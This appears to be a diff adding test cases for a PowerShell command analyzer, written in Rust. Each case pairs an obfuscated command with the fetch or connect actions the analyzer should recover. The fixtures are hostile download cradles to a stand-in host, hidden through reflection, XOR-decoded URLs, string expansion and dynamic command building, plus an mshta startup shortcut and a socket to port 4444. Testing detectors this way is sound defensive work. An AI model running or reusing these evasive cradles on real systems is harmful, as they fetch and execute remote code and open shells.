@@ -542,4 +542,49 @@ $m.Dispose()
         r#"$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\a.lnk");$s.TargetPath='mshta.exe';$s.Arguments='http://192.0.2.7/a';$s.Save()"#,
         &[r"set shortcut C:\Users\k.tanaka\AppData\Roaming\a.lnk = mshta.exe http://192.0.2.7/a", "fetch http://192.0.2.7/a"],
     ),
+    (
+        "a switch cut short",
+        r"iwr -useb http://192.0.2.7/a -outf c:\a.exe",
+        &[r"fetch http://192.0.2.7/a to c:\a.exe"],
+    ),
+    (
+        "bytes into begin and process",
+        "$b=[Convert]::FromBase64String('AwE=');$u='http://192.0.2.7/';$b | % -Begin { $i=0 } -Process { $u+=[char]($_ -bxor [int]'bb'[$i++ % 2]) };irm $u",
+        &["fetch http://192.0.2.7/ac"],
+    ),
+    (
+        "expanded text",
+        "$u='http://192.0.2.7/a';irm $ExecutionContext.InvokeCommand.ExpandString('$u')",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "method by name",
+        "$w=New-Object Net.WebClient;$w.PsObject.Methods['DownloadString'].Invoke('http://192.0.2.7/a')",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "method by reflection",
+        "$w=New-Object Net.WebClient;$w.GetType().GetMethod('DownloadString',[type[]]@([string])).Invoke($w,@('http://192.0.2.7/a'))",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "command put together",
+        "[void][powershell]::Create().AddCommand('irm').AddParameter('Uri','http://192.0.2.7/a').Invoke()",
+        &["evaluate powershell", "fetch http://192.0.2.7/a"],
+    ),
+    (
+        "end point",
+        "$e=New-Object Net.IPEndPoint([Net.IPAddress]::Parse('192.0.2.7'),4444);$s=[Net.Sockets.Socket]::new('InterNetwork','Stream','Tcp');$s.Connect($e)",
+        &["connect 192.0.2.7 4444"],
+    ),
+    (
+        "URL put together",
+        "irm (New-Object UriBuilder('http','192.0.2.7',8080,'/a')).Uri",
+        &["fetch http://192.0.2.7:8080/a"],
+    ),
+    (
+        "web socket",
+        "$w=New-Object Net.WebSockets.ClientWebSocket;$w.ConnectAsync('wss://c.example/a',$null).Wait()",
+        &["fetch wss://c.example/a"],
+    ),
 ];
